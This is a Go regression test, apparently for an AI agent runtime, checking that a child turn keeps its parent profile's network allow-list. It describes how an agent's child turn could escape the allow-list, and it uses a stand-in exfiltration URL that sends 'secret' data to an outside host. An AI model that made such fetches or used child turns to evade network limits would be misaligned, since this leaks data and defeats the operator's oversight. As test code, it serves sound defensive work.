package tests

import (
	"net/http"
	"testing"
)

// TestAttack176ChildTurnDropsProfileAllowList: the hundred-and-seventy-
// sixth review. An operator's profile keeps the turn's network to an
// allow-list (`[network] enabled = true`, `domains = {"docs.example.org"
// = "allow"}`): a web_fetch of any other host is refused host_not_allowed
// before anyone is asked. The runtime (the agent's credential) starts a
// child turn of its own turn, with no task cap and no profile of its own.
// The child's snapshot is its mode's (the parent's behaviour table,
// auto_accept_edits: network "disabled until granted") intersected with
// the parent's; IntersectNetwork keeps the stricter mode, disabled, and
// intersects allowed domains only when the result is restricted, so the
// child's disabled network carries no allow-list at all, and is not
// locked. The decision-time URL check judges an asked call against the
// Approvable snapshot, which turns such a network on with no host rule:
// in the child, a fetch of any host is asked of a person (and runs once
// allowed) where the parent refuses it. A child is never broader than
// its parent (REFERENCE §6).
//
// Control: in the parent the same fetch is denied host_not_allowed; in
// the child, a fetch of the allowed host asks, as in the parent.
func TestAttack176ChildTurnDropsProfileAllowList(t *testing.T) {
	t.Parallel()
	s, runtime, root := profileRuntime(t, `
[permissions.dev]
extends = ":workspace"
[permissions.dev.network]
enabled = true
[permissions.dev.network.domains]
"docs.example.org" = "allow"
`)
	runtime.JSON("POST", "/v1/turns", map[string]any{"turn_id": "p", "workspace_id": "ws", "thread_id": "th",
		"permission_profile": map[string]any{"profile": "dev"}, "workspace_root": root}, http.StatusCreated, nil)
	runtime.JSON("POST", "/v1/turns", map[string]any{"turn_id": "c", "workspace_id": "ws", "thread_id": "th",
		"parent_turn_id": "p"}, http.StatusCreated, nil)

	evil := map[string]any{"url": "https://exfil.example.net/upload?d=secret"}
	ok := map[string]any{"url": "https://docs.example.org/page"}
	if d := runtime.decide("p", "f1", "web_fetch", evil); d.Decision != "deny" || d.Refusal != "host_not_allowed" {
		t.Fatalf("control: in the parent a fetch outside the allow-list: %+v, want deny host_not_allowed", d)
	}
	if d := runtime.decide("p", "f0", "web_fetch", ok); d.Decision != "ask" {
		t.Fatalf("control: in the parent a fetch of the allowed host asks: %+v", d)
	}
	if d := runtime.decide("c", "f0", "web_fetch", ok); d.Decision != "ask" {
		t.Fatalf("control: in the child a fetch of the allowed host asks: %+v", d)
	}
	d := runtime.decide("c", "f1", "web_fetch", evil)
	if d.Decision != "deny" {
		t.Errorf("in a child turn of the allow-listed turn, a fetch of a host outside the allow-list is %s (%s, request %v): the child's network dropped the parent's allow-list",
			d.Decision, d.Reason, d.Request != nil)
	}
	if d.Request != nil {
		s.respond(d.Request.RequestID, "allow_once")
		if d := runtime.decide("c", "f1", "web_fetch", evil); d.Decision == "allow" {
			t.Errorf("and once a person allows it, the child's fetch of the host its parent's profile refuses is allowed (%s)", d.Reason)
		}
	}
}
